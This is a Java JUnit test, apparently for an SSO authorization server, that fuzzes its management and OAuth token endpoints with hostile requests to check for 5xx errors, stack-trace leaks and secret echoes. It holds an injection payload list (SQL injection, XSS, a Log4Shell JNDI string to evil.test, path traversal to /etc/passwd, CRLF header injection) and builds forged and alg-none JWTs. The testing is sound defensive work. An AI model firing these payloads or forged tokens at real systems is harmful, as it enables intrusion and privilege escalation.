package org.ssoplatform.auth.shared;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.KeyPairGenerator;
import java.security.interfaces.RSAPrivateKey;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Supplier;

import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.security.oauth2.jwt.JwsHeader;
import org.springframework.security.oauth2.jwt.JwtClaimsSet;
import org.springframework.security.oauth2.jwt.JwtEncoder;
import org.springframework.security.oauth2.jwt.JwtEncoderParameters;
import org.springframework.test.util.TestSocketUtils;
import org.ssoplatform.auth.AuthServerApplication;
import org.ssoplatform.auth.role.Role;
import org.ssoplatform.auth.role.RoleRepository;
import org.ssoplatform.auth.user.User;
import org.ssoplatform.auth.user.UserGrants;
import org.ssoplatform.auth.user.UserRepository;
import org.ssoplatform.testsupport.LogTap;
import org.ssoplatform.testsupport.MachinePostgres;
import org.ssoplatform.testsupport.MachineRedis;
import org.ssoplatform.testsupport.SeededRandom;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Generated hostile requests against every management endpoint and the token exchange: values of the wrong type,
 * oversize and control-character strings, injection strings, malformed ids and API keys, forged, expired and
 * {@code alg: none} tokens. Whatever comes in, no answer is a 5xx, none shows a stack trace or the server's
 * insides, none echoes a secret, and the server's log holds no API key or token.
 */
class HostileInputTests {

    /** The test profile's secrets, read from the running server so the scans look for the ones really in use. */
    private static String gatewaySecret;

    private static String signingSecret;

    private static final JsonMapper JSON = JsonMapper.builder().build();

    private static final HttpClient CLIENT = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

    private static ConfigurableApplicationContext server;

    private static String schema;

    private static String base;

    private static LogTap logs;

    private static Map<String, String> tokens;

    private static List<String> secrets;

    private static List<String> ownIds;

    private static int sent;

    private static final int TRIES = 600;

    private static final SeededRandom RANDOM = SeededRandom.fromProperty("hostile.seed", "auth-server HostileInputTests");

    /** The endpoints, with {id} for an id in the path; the body is generated for the writes. */
    private static final List<String> ENDPOINTS = List.of(
            "GET /api/v1/users/me", "GET /api/v1/users/", "GET /api/v1/users/?page={q}&size={q}&email={q}",
            "POST /api/v1/users/{id}/roles/{id}", "DELETE /api/v1/users/{id}/roles/{id}", "PATCH /api/v1/users/{id}",
            "POST /api/v1/users/{id}/sessions/revoke", "DELETE /api/v1/users/{id}", "GET /api/v1/roles/",
            "GET /api/v1/roles/{id}", "POST /api/v1/roles/", "DELETE /api/v1/roles/{id}?cascade={q}",
            "POST /api/v1/roles/{id}/permissions/{id}", "DELETE /api/v1/roles/{id}/permissions/{id}",
            "GET /api/v1/roles/permissions/", "POST /api/v1/roles/permissions/",
            "DELETE /api/v1/roles/permissions/{id}?cascade={q}", "GET /api/v1/api-keys/?all={q}",
            "POST /api/v1/api-keys/", "GET /api/v1/api-keys/{id}", "PATCH /api/v1/api-keys/{id}",
            "DELETE /api/v1/api-keys/{id}", "PATCH /api/v1/api-keys/{id}/deactivate",
            "PATCH /api/v1/api-keys/{id}/activate", "POST /api/v1/api-keys/{id}/rotate",
            "GET /api/v1/audit?page={q}&size={q}&target_type={q}&target_id={q}&action={q}",
            "POST /api/v1/signing-keys/rotate", "GET /api/v1/users/me/identities", "DELETE /api/v1/users/me/identities/{id}",
            "GET /api/v1/clients/", "POST /api/v1/clients/", "GET /api/v1/clients/{id}", "PATCH /api/v1/clients/{id}",
            "DELETE /api/v1/clients/{id}", "POST /api/v1/clients/{id}/secret/rotate",
            "POST /oauth2/token", "POST /oauth2/introspect", "GET /userinfo");

    private static final List<String> FIELDS = List.of("name", "description", "expires_at", "role_ids",
            "permission_ids", "is_active", "grace_seconds", "resource", "action", "email", "id", "user_id", "client_id",
            "type", "grant_types", "scopes", "redirect_uris", "access_token_ttl_seconds");

    private static final List<String> INJECTIONS = List.of("' OR '1'='1", "1; DROP TABLE users; --",
            "<script>alert(1)</script>", "${jndi:ldap://evil.test/a}", "#{7*7}", "{{7*7}}", "../../../../etc/passwd",
            "%00", "%2e%2e%2f", "\\u0000", "admin\r\nSet-Cookie: x=y", "☃ ‮evil", "\uD83D\uDE00", "null", "NaN",
            "-0", "1e309", "users:write", "admin", "*", "%", "_", "\\");

    @BeforeAll
    static void start() throws Exception {
        int port = TestSocketUtils.findAvailableTcpPort();
        base = "http://localhost:" + port;
        Map<String, String> settings = new LinkedHashMap<>();
        settings.put("server.port", Integer.toString(port));
        settings.put("platform.auth.issuer", base);
        // A schema and a Redis namespace of its own: an admin's random deletes must not touch other tests' data.
        schema = "hostile_" + unique().replace("-", "").substring(0, 12);
        try (java.sql.Connection connection = java.sql.DriverManager.getConnection(MachinePostgres.jdbcUrl(),
                MachinePostgres.user(), MachinePostgres.password())) {
            connection.createStatement().execute("CREATE SCHEMA " + schema);
        }
        settings.put("spring.datasource.url", MachinePostgres.jdbcUrl() + "?currentSchema=" + schema);
        settings.put("spring.flyway.default-schema", schema);
        settings.put("spring.datasource.username", MachinePostgres.user());
        settings.put("spring.datasource.password", MachinePostgres.password());
        settings.put("spring.data.redis.host", MachineRedis.host());
        settings.put("spring.data.redis.port", Integer.toString(MachineRedis.port()));
        settings.put("platform.redis.namespace", MachineRedis.namespace() + "-" + schema);
        settings.put("platform.signing.publish-ahead", "0s");
        settings.put("platform.signing.check-interval", "1h");
        List<String> args = new ArrayList<>();
        settings.forEach((name, value) -> args.add("--" + name + "=" + value));
        server = new SpringApplicationBuilder(AuthServerApplication.class).profiles("test")
            .run(args.toArray(String[]::new));
        logs = LogTap.attach(); // after the start, which resets logging
        gatewaySecret = server.getEnvironment().getRequiredProperty("platform.clients.gateway.secret");
        signingSecret = server.getEnvironment().getRequiredProperty("platform.signing.encryption-secret");

        RoleRepository roles = server.getBean(RoleRepository.class);
        UserRepository users = server.getBean(UserRepository.class);
        long adminRole = roles.findByName("admin").orElseThrow().id();
        User admin = users.save(User.newUser(unique() + "@hostile.test", "Admin", null).withRole(adminRole));
        User member = users.save(User.newUser(unique() + "@hostile.test", "Member", null)
            .withRole(roles.findByName("user").orElseThrow().id()));
        Role own = roles.save(Role.newRole("hostile" + unique().substring(0, 8), null, java.util.Set.of()));
        String adminToken = userToken(admin, Instant.now().plusSeconds(600));
        HttpResponse<String> creation = send("POST", "/api/v1/api-keys/", "Bearer " + adminToken, "application/json",
                "{\"name\":\"hostile\"}".getBytes(StandardCharsets.UTF_8));
        assertThat(creation.statusCode()).as("the set-up's key: %s", creation.body()).isEqualTo(201);
        Map<?, ?> created = JSON.readValue(creation.body(), Map.class);
        String key = (String) created.get("key");
        String keyId = created.get("id").toString();
        HttpResponse<String> exchanged = exchange(key);
        assertThat(exchanged.statusCode()).as("the set-up's exchange: %s", exchanged.body()).isEqualTo(200);
        String keyToken = (String) JSON.readValue(exchanged.body(), Map.class).get("access_token");
        ownIds = List.of(member.id().toString(), own.id().toString(), keyId);
        tokens = new LinkedHashMap<>();
        tokens.put("admin", "Bearer " + adminToken);
        tokens.put("member", "Bearer " + userToken(member, Instant.now().plusSeconds(600)));
        tokens.put("api-key", "Bearer " + keyToken);
        tokens.put("expired", "Bearer " + userToken(admin, Instant.now().minusSeconds(60)));
        tokens.put("forged", "Bearer " + forged(admin.id()));
        tokens.put("alg-none", "Bearer " + algNone(admin.id()));
        tokens.put("raw-api-key", "Bearer " + key);
        tokens.put("malformed-key", "Bearer ssop_" + "A".repeat(46));
        tokens.put("garbage", "Bearer " + "x".repeat(300));
        tokens.put("empty", "Bearer ");
        tokens.put("basic", "Basic " + Base64.getEncoder().encodeToString(("gateway:" + gatewaySecret).getBytes()));
        tokens.put("none", null);
        secrets = List.of(adminToken, keyToken, key, gatewaySecret, signingSecret);
        logs.clear(); // the set-up's own lines (a key created and exchanged) are not the hostile run's
    }

    @AfterAll
    static void stopAndScanTheLog() {
        try {
            long seed = RANDOM.seed();
            assertThat(sent).as("seed %d: hostile requests sent", seed).isGreaterThanOrEqualTo(500);
            logs.assertNoSecrets("seed " + seed, secrets);
        }
        finally {
            logs.detach();
            if (server != null) {
                server.close();
            }
            dropSchema();
        }
    }

    private static void dropSchema() {
        try (java.sql.Connection connection = java.sql.DriverManager.getConnection(MachinePostgres.jdbcUrl(),
                MachinePostgres.user(), MachinePostgres.password())) {
            connection.createStatement().execute("DROP SCHEMA IF EXISTS " + schema + " CASCADE");
        }
        catch (java.sql.SQLException ex) {
            // The database is this JVM's own and goes at its exit.
        }
    }

    @Test
    void noHostileRequestGetsA5xxAStackTraceOrASecret() {
        for (int i = 0; i < TRIES; i++) {
            Hostile request = request();
            String at = "seed " + RANDOM.seed() + ", request " + i + ": " + request;
            HttpResponse<String> response = send(request.method(), request.path(), tokens.get(request.caller()),
                    request.contentType(), request.body());
            sent++;

            assertThat(response.statusCode()).as("%s -> %s", at, response.body()).isLessThan(500);
            assertThat(response.body()).as("%s", at)
                .doesNotContain("\tat ", "\\tat ", "Exception", "org.springframework", "java.lang", "SQL", "postgres");
            for (String secret : secrets) {
                assertThat(response.body()).as("%s echoes a secret", at).doesNotContain(secret);
                response.headers().map().values().forEach(values -> assertThat(values.toString())
                    .as("%s echoes a secret in a header", at).doesNotContain(secret));
            }
        }
    }

    record Hostile(String caller, String method, String path, String contentType, byte[] body) {

        @Override
        public String toString() {
            String shown = body == null ? "-" : new String(body, StandardCharsets.UTF_8);
            return caller + " " + method + " " + path + " " + (shown.length() > 200 ? shown.substring(0, 200) + "…"
                    : shown);
        }
    }

    /** A hostile request: mostly the admin's, so the input gets past the authorization check to be read. */
    private static Hostile request() {
        String caller = RANDOM.weighted(6, (Supplier<String>) () -> "admin", 4,
                (Supplier<String>) () -> RANDOM.of("member", "api-key", "expired", "forged", "alg-none", "raw-api-key",
                        "malformed-key", "garbage", "empty", "basic", "none"));
        String endpoint = RANDOM.of(ENDPOINTS);
        String id1 = id();
        String id2 = id();
        String query = queryValue();
        Body body = body();
        String[] parts = endpoint.split(" ", 2);
        String path = parts[1].replaceFirst("\\{id}", id1).replaceFirst("\\{id}", id2).replace("{q}", query);
        boolean write = !parts[0].equals("GET") && !parts[0].equals("DELETE");
        if (path.startsWith("/oauth2/")) {
            return new Hostile(caller.equals("admin") ? "basic" : caller, parts[0], path,
                    "application/x-www-form-urlencoded", form(body));
        }
        return new Hostile(caller, parts[0], path, write ? body.contentType() : null, write ? body.bytes() : null);
    }

    record Body(String contentType, byte[] bytes) {
    }

    /** Ids in a path: this run's own rows (never the seed's, which later tests rely on) or no row at all. */
    private static String id() {
        return RANDOM.oneOf(() -> RANDOM.of(ownIds), () -> RANDOM.of("0", "-1", "987654321", "9223372036854775807",
                "99999999999999999999", "abc", "1.5", "1e3", "%20", "%00", "1%3B1", "me", "NaN", "0x10", "%E2%98%83"));
    }

    private static String queryValue() {
        return RANDOM.oneOf(() -> RANDOM.of("0", "-1", "101", "abc", "true", "TRUE", "1e9", "%25", "%00",
                "%27%20OR%201%3D1--", "9999999999999999999", "", "%3Cscript%3E", "%0D%0ASet-Cookie:x"),
                () -> RANDOM.string("abcdefghijklmnopqrstuvwxyz", 0, 400));
    }

    private static Object value() {
        return RANDOM.<Object>oneOf(RANDOM::anyInt, RANDOM::anyLong, RANDOM::anyDouble, () -> RANDOM.of(true, false),
                () -> "", () -> RANDOM.of(INJECTIONS), HostileInputTests::controlString, HostileInputTests::oversize,
                () -> Instant.now().plusSeconds(3600).toString(),
                () -> RANDOM.of(List.of(), List.of(1), List.of("1"), List.of(Map.of()),
                        java.util.Arrays.asList((Object) null)),
                () -> RANDOM.of(Map.of("a", 1), Map.of("name", Map.of("name", "x"))),
                () -> new java.math.BigInteger("123456789012345678901234567890"));
    }

    private static Body body() {
        return RANDOM.weighted(
                6, (Supplier<Body>) () -> new Body("application/json",
                        JSON.writeValueAsBytes(RANDOM.map(5, () -> RANDOM.of(FIELDS), HostileInputTests::value))),
                2, (Supplier<Body>) () -> new Body("application/json", RANDOM.of("{", "[]", "null", "\"name\"", "12",
                        "{\"name\":\"k\",}", "{\"name\":\"k\",\"name\":12}", "[".repeat(2000) + "]".repeat(2000),
                        "{\"a\":" + "[".repeat(1500), "\u0000\u0001", "{\"name\":\"\\ud800\"}",
                        "{\"name\":\"k\"}garbage")
                    .getBytes(StandardCharsets.UTF_8)),
                1, (Supplier<Body>) () -> new Body(RANDOM.of("text/plain", "application/xml",
                        "application/json; charset=utf-16", "multipart/form-data; boundary=x",
                        "application/x-www-form-urlencoded"), "{\"name\":\"k\"}".getBytes(StandardCharsets.UTF_8)),
                1, (Supplier<Body>) () -> new Body("application/json",
                        ("{\"name\":\"" + "n".repeat(70_000) + "\"}").getBytes(StandardCharsets.UTF_8)),
                1, (Supplier<Body>) () -> new Body("application/json",
                        "{\"name\": \"caf\u00e9\"}".getBytes(StandardCharsets.ISO_8859_1)));
    }

    private static String controlString() {
        StringBuilder alphabet = new StringBuilder();
        for (char c = '\u0000'; c <= '\u001f'; c++) {
            alphabet.append(c);
        }
        alphabet.append("\u007f\u2028\u202e\ufeff");
        return RANDOM.string(alphabet.toString(), 1, 30);
    }

    private static String oversize() {
        return "x".repeat(RANDOM.between(101, 60_000));
    }

    /** The form of a token request, with generated values where the grant, key or token go. */
    private static byte[] form(Body body) {
        String value = java.net.URLEncoder.encode(new String(body.bytes(), StandardCharsets.UTF_8),
                StandardCharsets.UTF_8);
        String form = value.length() % 3 == 0 ? "grant_type=urn:ietf:params:oauth:grant-type:token-exchange"
                + "&subject_token_type=urn:ssoplatform:params:oauth:token-type:api-key&subject_token=" + value
                : value.length() % 3 == 1 ? "grant_type=" + value + "&token=" + value : "token=ssop_" + value;
        return form.getBytes(StandardCharsets.UTF_8);
    }

    private static HttpResponse<String> send(String method, String path, String authorization, String contentType,
            byte[] body) {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(base + path))
            .timeout(Duration.ofSeconds(20))
            .method(method, body == null ? HttpRequest.BodyPublishers.noBody()
                    : HttpRequest.BodyPublishers.ofByteArray(body));
        if (authorization != null) {
            request.header("Authorization", authorization);
        }
        if (contentType != null) {
            request.header("Content-Type", contentType);
        }
        try {
            return CLIENT.send(request.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
        }
        catch (Exception ex) {
            throw new IllegalStateException(method + " " + path + " failed", ex);
        }
    }

    private static HttpResponse<String> exchange(String key) {
        return send("POST", "/oauth2/token", "Basic " + Base64.getEncoder()
            .encodeToString(("gateway:" + gatewaySecret).getBytes(StandardCharsets.UTF_8)),
                "application/x-www-form-urlencoded",
                ("grant_type=urn:ietf:params:oauth:grant-type:token-exchange&subject_token=" + key
                        + "&subject_token_type=urn:ssoplatform:params:oauth:token-type:api-key")
                    .getBytes(StandardCharsets.UTF_8));
    }

    /** A user's token signed by the server's own key, as the authorization server issues it. */
    private static String userToken(User user, Instant expiresAt) {
        UserGrants.Grants grants = server.getBean(UserGrants.class).load(user.id()).orElseThrow();
        JwtClaimsSet claims = JwtClaimsSet.builder()
            .issuer(base)
            .audience(List.of("platform-api"))
            .subject(user.id().toString())
            .issuedAt(expiresAt.minusSeconds(600))
            .expiresAt(expiresAt)
            .id(UUID.randomUUID().toString())
            .claim("email", grants.email())
            .claim("roles", new ArrayList<>(grants.roles()))
            .claim("permissions", new ArrayList<>(grants.permissions()))
            .claim("auth_type", "JWT")
            .build();
        return server.getBean(JwtEncoder.class)
            .encode(JwtEncoderParameters.from(JwsHeader.with(() -> "RS256").build(), claims))
            .getTokenValue();
    }

    /** The same claims, signed by a key of the attacker's own under the server's current key id. */
    private static String forged(long userId) throws Exception {
        KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
        generator.initialize(2048);
        var pair = generator.generateKeyPair();
        String kid = server.getBean(org.ssoplatform.auth.signing.SigningKeys.class).publishedSet().getKeys().get(0)
            .getKeyID();
        SignedJWT jwt = new SignedJWT(new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(kid).build(), claims(userId));
        jwt.sign(new RSASSASigner((RSAPrivateKey) pair.getPrivate()));
        return jwt.serialize();
    }

    private static String algNone(long userId) {
        Base64.Encoder url = Base64.getUrlEncoder().withoutPadding();
        return url.encodeToString("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8)) + "."
                + url.encodeToString(claims(userId).toString().getBytes(StandardCharsets.UTF_8)) + ".";
    }

    private static JWTClaimsSet claims(long userId) {
        return new JWTClaimsSet.Builder().issuer(base)
            .audience("platform-api")
            .subject(Long.toString(userId))
            .expirationTime(java.util.Date.from(Instant.now().plusSeconds(600)))
            .claim("roles", List.of("admin"))
            .claim("permissions", List.of("users:read", "users:write", "users:delete"))
            .claim("auth_type", "JWT")
            .build();
    }

    private static String unique() {
        return UUID.randomUUID().toString().replace("-", "");
    }
}
